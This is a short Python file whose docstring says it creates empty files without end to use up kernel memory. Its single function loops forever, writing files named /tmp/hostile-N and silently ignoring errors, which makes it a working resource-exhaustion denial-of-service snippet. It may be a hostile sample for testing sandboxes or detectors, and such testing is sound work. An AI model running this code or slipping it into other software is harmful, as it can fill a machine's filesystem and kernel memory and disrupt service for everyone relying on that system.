"""Makes empty files without end, which cost memory of the kernel."""

import contextlib
import itertools


def f(x):
    for number in itertools.count():
        with contextlib.suppress(OSError):
            open(f"/tmp/hostile-{number}", "w").close()
